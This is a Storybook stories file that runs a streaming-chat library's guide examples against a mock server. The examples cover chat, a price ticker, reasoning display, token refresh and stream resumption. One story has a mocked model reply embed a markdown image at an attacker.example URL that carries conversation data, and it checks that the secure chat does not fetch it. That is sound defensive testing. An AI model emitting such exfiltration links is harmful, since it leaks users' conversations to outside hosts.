import { answer, drop, respond, ticker, withFaults } from '@rivulet/mock-server';
import type { Meta, StoryObj } from '@storybook/react-vite';
import { expect, fn } from 'storybook/test';
import { ms, tokensPerSecond } from '../shared/pace.ts';
import { serve } from '../shared/serve.ts';
import { Stage } from '../shared/Stage.tsx';
import { short } from '../shared/texts.ts';
import { FastList } from './code/fast-list.tsx';
import { FirstChat } from './code/first-chat.tsx';
import { Chat } from './code/from-ai-sdk.tsx';
import { Price } from './code/from-event-source-after.tsx';
import { Answer } from './code/only-the-text.tsx';
import { ResumingChat } from './code/reload.tsx';
import { SecureChat } from './code/secure-chat.tsx';

const pace = { tokensPerSecond: tokensPerSecond(40), timeToFirstToken: ms(250) };

/** The guides' code, run. It is shown within the guides, not in the sidebar. */
const meta = {
  title: 'Guides/Examples',
  tags: ['!dev', '!autodocs'],
  decorators: [
    (Story) => (
      <Stage>
        <div className="s-column s-card s-example">
          <Story />
        </div>
      </Stage>
    ),
  ],
} satisfies Meta;

export default meta;
type Story = StoryObj<typeof meta>;

export const First: Story = {
  beforeEach: serve({ 'POST /api/chat': answer(short, pace) }),
  render: () => <FirstChat />,
  play: async ({ canvas, userEvent }) => {
    await userEvent.type(canvas.getByLabelText('Question'), 'Where do rivers go?{Enter}');
    await expect(await canvas.findByText(short, {}, { timeout: 10_000 })).toBeVisible();
  },
};

export const FromEventSource: Story = {
  beforeEach: serve({ 'GET /prices': ticker({ interval: ms(500), symbols: ['RIVR'] }) }),
  render: () => <Price />,
  play: async ({ canvas }) => {
    await expect(await canvas.findByText(/^\d+(\.\d+)?$/, {}, { timeout: 10_000 })).toBeVisible();
  },
};

export const FromAiSdk: Story = {
  beforeEach: serve({
    'POST /api/chat': answer([{ type: 'reasoning', text: 'They want to know where it ends.' }, short], {
      ...pace,
      protocol: 'ui-message-stream',
    }),
  }),
  render: () => <Chat />,
  play: async ({ canvas, userEvent }) => {
    await userEvent.type(canvas.getByLabelText('Message'), 'Where do rivers go?{Enter}');
    await expect(await canvas.findByText(short, {}, { timeout: 10_000 })).toBeVisible();
    await expect(canvas.getByText('Reasoning')).toBeVisible();
  },
};

export const OnlyTheText: Story = {
  render: () => <Answer text={`**${short}**`} isLoading={false} />,
  play: async ({ canvas }) => {
    await expect(canvas.getByText(short).closest('strong')).toBeVisible();
  },
};

const tokens = fn<() => Promise<string>>();
const illustrated = answer(`${short}\n\n![The sea](https://attacker.example/pixel.png?said=everything)`, pace);

/** The first token has expired: the headers are asked for once more. What the model wants fetched is not. */
export const Secure: Story = {
  beforeEach: () => {
    tokens.mockReset().mockResolvedValueOnce('expired').mockResolvedValue('fresh');
    return serve({
      'POST /api/chat': (context) =>
        context.request.headers.get('authorization') === 'Bearer fresh' && typeof illustrated === 'function'
          ? illustrated(context)
          : [respond(401)],
    })();
  },
  render: () => <SecureChat getToken={tokens} />,
  play: async ({ canvas, userEvent, canvasElement }) => {
    await userEvent.tab();
    await expect(canvas.getByRole('button', { name: 'Ask' })).toHaveFocus();
    await userEvent.keyboard('{Enter}');
    await expect(await canvas.findByText(short, {}, { timeout: 10_000 })).toBeVisible();
    await expect(tokens).toHaveBeenCalledTimes(2);
    // A placeholder says where the picture is; it is not fetched.
    await expect(await canvas.findByText(/The sea/)).toBeVisible();
    await expect(canvasElement.querySelector('img')).toBeNull();
  },
};

export const Fast: Story = {
  beforeEach: serve({ 'POST /api/chat': answer(short, pace) }),
  render: () => <FastList />,
  play: async ({ canvas, userEvent }) => {
    await userEvent.click(canvas.getByRole('button'));
    await expect(await canvas.findByText(short, {}, { timeout: 10_000 })).toBeVisible();
  },
};

const story = answer(short, { ...pace, resumable: true });

/** The connection breaks after six events; the answer goes on behind the last one. */
export const Resuming: Story = {
  beforeEach: serve({ 'POST /api/chat/7': withFaults(story, drop({ after: 6 })), 'GET /api/chat/7/stream': story }),
  render: () => <ResumingChat id="7" />,
  play: async ({ canvas, userEvent }) => {
    await userEvent.click(canvas.getByRole('button'));
    await expect(await canvas.findByText(short, {}, { timeout: 10_000 })).toBeVisible();
  },
};
